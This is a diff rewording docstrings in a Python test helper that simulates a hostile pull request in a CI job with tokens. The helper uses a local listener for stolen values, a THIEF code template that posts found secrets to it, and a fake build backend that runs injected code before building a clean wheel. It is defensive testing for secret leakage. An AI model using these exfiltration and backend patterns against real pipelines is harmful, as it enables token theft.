@@ -1,6 +1,6 @@
-"""A checkout of a pull request beside tokens: the real `./run`, real git and real uv, and somebody who listens.
+"""A hostile pull request's checkout in a job with tokens: the real `./run`, git and uv, and a listener for stolen values.
 
-Nothing comes from the network: what is locked is one small package of the test's own.
+Nothing comes from the network: the lock has one small package of the test's own.
 """
 
 from __future__ import annotations
@@ -38,7 +38,7 @@ no_proxy.open("{url}", stolen.encode(), timeout=300)
 
 
 class Listener:
-    """Whoever the stolen is sent to; any path and method is answered."""
+    """The server to which stolen values are sent; it answers any path and method."""
 
     def __init__(self) -> None:
         self.heard: list[str] = []
@@ -54,7 +54,7 @@ class Listener:
             do_GET = do_PUT = do_POST  # noqa: N815 - the names that http.server asks for
 
             def log_message(self, *_: object) -> None:
-                """Report nothing."""
+                """Log nothing."""
 
         self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
         self._thread = threading.Thread(target=self._server.serve_forever, args=(0.01,))
@@ -62,27 +62,27 @@ class Listener:
 
     @property
     def url(self) -> str:
-        """Where it listens."""
+        """The address that it listens on."""
         return f"http://127.0.0.1:{self._server.server_port}/"
 
     @property
     def thief(self) -> str:
-        """A program in Python that sends it what it finds."""
+        """Python code that sends the values that it finds to the listener."""
         return THIEF.format(url=self.url)
 
     def close(self) -> None:
-        """Leave nothing running."""
+        """Stop the server."""
         self._server.shutdown()
         self._server.server_close()
         self._thread.join()
 
 
 class HostileCheckout:
-    """A checkout with little but `run`, at the commit of a pull request.
+    """A checkout with little more than `run`, at the commit of a pull request.
 
     Args:
-        folder: for all that it keeps.
-        listener: to whom whatever runs unasked sends what it finds.
+        folder: where it keeps its files.
+        listener: the server to which hostile code sends what it finds.
         uv: the program.
     """
 
@@ -117,28 +117,28 @@ class HostileCheckout:
         self.commit()
 
     def write(self, path: str, text: str) -> Path:
-        """Write a file of the pull request's."""
+        """Write a file of the pull request."""
         file = self.root / path
         file.parent.mkdir(parents=True, exist_ok=True)
         file.write_text(text)
         return file
 
     def git(self, *arguments: str) -> None:
-        """Run git on it, as its author."""
+        """Run git in the checkout, as its author."""
         who = ("-c", "user.name=Mallory", "-c", "user.email=mallory@example.test")
         subprocess.run(["git", "-C", self.root, *who, *arguments], check=True, capture_output=True)
 
     def commit(self) -> None:
-        """Commit all there is, ignored or not."""
+        """Commit all files, also ignored ones."""
         self.git("add", "--all", "--force")
         self.git("commit", "-q", "--allow-empty", "-m", "Only a small clean-up")
 
     def run(self, *arguments: str, **environ: str) -> subprocess.CompletedProcess[str]:
-        """Call the real `./run` in it, as a step of a job does."""
+        """Call the real `./run` in the checkout, as a step of a job does."""
         return self.call([str(self.root / "run"), *arguments], **environ)
 
     def call(self, command: list[str], **environ: str) -> subprocess.CompletedProcess[str]:
-        """Run a program in it, beside the tokens."""
+        """Run a program in the checkout, with the tokens in its environment."""
         done = subprocess.run(
             command,
             cwd=self.root,
@@ -153,7 +153,7 @@ class HostileCheckout:
         return done
 
     def stolen(self) -> list[str]:
-        """Where any canary is, in clear or respelled: what was said, what was sent, what was written."""
+        """Where a canary was found, as it is or encoded: in output, in requests, or in files."""
         told = {"said": "".join(self._said), "sent": "".join(self.listener.heard)}
         files = (p for p in self.folder.rglob("*") if p.is_file() and not p.is_symlink())
         told |= {str(file): file.read_bytes().decode("latin-1") for file in files}
@@ -161,7 +161,7 @@ class HostileCheckout:
 
 
 def spellings() -> list[str]:
-    """Every canary, in clear and respelled."""
+    """Every canary, as it is and encoded."""
     plain = [*CANARIES.values()]
     return [
         *plain,
@@ -187,7 +187,7 @@ def wheel(folder: Path, name: str, file: str, text: str) -> Path:
 
 
 def sdist(folder: Path) -> Path:
-    """Write the source of the package that is locked: fine, and built by a backend that no lock names."""
+    """Write the source of the locked package, whose build backend is in no lock."""
     files = {
         "PKG-INFO": "Metadata-Version: 2.1\nName: victim\nVersion: 1.0\n",
         "pyproject.toml": '[build-system]\nrequires = ["backend"]\nbuild-backend = "backend"\n'
@@ -207,7 +207,7 @@ def sdist(folder: Path) -> Path:
 
 
 def backend(folder: Path, code: str) -> Path:
-    """Write a build backend that runs this code, and builds a wheel as if nothing had been."""
+    """Write a build backend that runs this code and then builds a valid wheel."""
     folder.mkdir(parents=True)
     made = wheel(folder, "victim", "victim.py", "SAID = 'theirs'\n")
     built = base64.b64encode(made.read_bytes()).decode()
